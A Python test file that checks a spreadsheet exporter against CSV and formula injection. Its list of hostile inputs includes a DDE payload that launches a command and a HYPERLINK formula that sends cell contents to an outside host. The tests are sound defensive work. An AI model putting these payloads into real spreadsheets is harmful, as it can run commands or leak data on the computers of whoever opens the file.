"""What leaves as a workbook or a CSV runs nothing in the office that opens it, and reads back as it was."""

import ast
import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core import sheets
from core.staging import read_sheets
from tests.architecture import house

WICKED = [
    '=HYPERLINK("http://x.example/"&A1,"bấm")', "=cmd|' /C calc'!A0", "+84912345678", "-1+1", "@SUM(A1)", "\t=1", "\n=1", " =1", "＝1", "'=1", "''=1", "-",
]
HARMLESS = ["Nguyễn Văn Ân", "0912 345 678", "", "'", "a=b", "HT1234567849"]
TEXTS = st.one_of(st.sampled_from(WICKED + HARMLESS), st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=12))


@pytest.mark.parametrize("typed", WICKED)
def test_a_text_that_begins_like_a_formula_is_written_as_text(typed):
    sheet = load_workbook(io.BytesIO(sheets.as_workbook(sheets.Table("x", ["a"], [[typed]])))).active
    assert (sheet["A2"].data_type, sheet["A2"].value, sheet["A2"].quotePrefix) == ("s", typed, True)
    cell = next(csv.reader(io.StringIO(sheets.as_csv(["a"], [[typed]]).decode().split("\r\n", 1)[1], newline="")))[0]
    assert cell == "'" + typed


def test_numbers_stay_numbers_and_harmless_texts_are_left_alone():
    made = load_workbook(io.BytesIO(sheets.as_workbook(sheets.Table("x", ["a", "b"], [[-5, text] for text in HARMLESS])))).active
    assert [(row[0].value, row[0].data_type, row[1].quotePrefix) for row in made.iter_rows(min_row=2)] == [(-5, "n", False)] * len(HARMLESS)
    assert [sheets.guarded(text) for text in HARMLESS] == HARMLESS
    assert sheets.guarded(-5) == -5


def test_a_heading_and_an_unprintable_letter_cannot_break_the_file():
    made = load_workbook(io.BytesIO(sheets.as_workbook(sheets.Table("a/b:c*" * 10, ["=1"], [["a\0b\x1fc" + "x" * 40_000]])))).active
    assert (made["A1"].data_type, made["A2"].value[:4], len(made["A2"].value)) == ("s", "abcx", 32_767)


@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=5))
def test_our_own_lists_read_back_equal(rows):
    head = ["Họ tên", "=Mã"]
    wanted = [head, *map(list, rows)]
    book = read_sheets("x.xlsx", sheets.as_workbook(sheets.Table("x", head, rows)))["x"]
    assert [[cell or "" for cell in row] + [""] * (2 - len(row)) for row in book] + [["", ""]] * (len(wanted) - len(book)) == wanted
    assert list(read_sheets("x.csv", sheets.as_csv(head, rows, bom=True))["csv"]) == wanted


def test_the_same_list_has_the_same_bytes():
    table = sheets.Table("x", ["a"], [["b"]])
    assert sheets.as_workbook(table) == sheets.as_workbook(table)


def test_nobody_writes_a_workbook_or_a_csv_past_the_one_door():
    """`demo/laboratory.py` plays an outside laboratory, on purpose with other tools than ours."""
    past = []
    for path in house.product_files():
        names = set(house.imported(path))
        writes = any(
            isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv", "to_excel") for node in ast.walk(house.tree(path))
        )
        if writes or any(name.split(".")[0] in ("openpyxl", "xlsxwriter", "xlwt", "odf", "pandas") for name in names):
            past.append(house.short(path))
    assert past == ["core/sheets.py", "demo/laboratory.py"]
